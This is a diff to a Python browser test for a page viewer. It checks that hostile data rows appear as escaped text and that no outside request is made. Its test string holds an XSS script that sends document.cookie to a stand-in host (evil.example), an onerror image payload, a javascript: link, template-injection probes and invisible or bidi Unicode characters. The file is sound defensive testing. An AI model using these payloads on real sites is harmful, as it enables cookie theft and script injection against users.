@@ -18,7 +18,7 @@ from tests.view.serving import DEADLINE_MS, ROOT, Look, browsing, viewing
 
 HOSTILE_TEXT = (
     "<script>fetch('http://evil.example/' + document.cookie)</script><img src=http://evil.example/x onerror=alert(1)>"
-    "\x1b[31mred\x1b[0m \u202egnirts\u202c \u200b \x00 </pre><style>body{display:none}</style>"
+    "\x1b[31mred\x1b[0m \u202egnirts\u202c \u200b \x00 \U000e0041\u3164. </pre><style>body{display:none}</style>"
     "[a](javascript:alert(1)) {{7*7}} ${7*7}"
 )
 
@@ -187,6 +187,7 @@ def test_hostile_rows_are_text_and_no_request_leaves_the_page(browser: Browser, 
     assert "<img src=http://evil.example/x" in shown
     assert "^[[31mred" in shown
     assert "U+202E" in shown
+    assert "U+E0041U+3164." in shown
     assert [each for each in look.requested if not each.startswith(look.base)] == []
     # The policy of the pages would have kept them as well.
     assert look.wrong == []
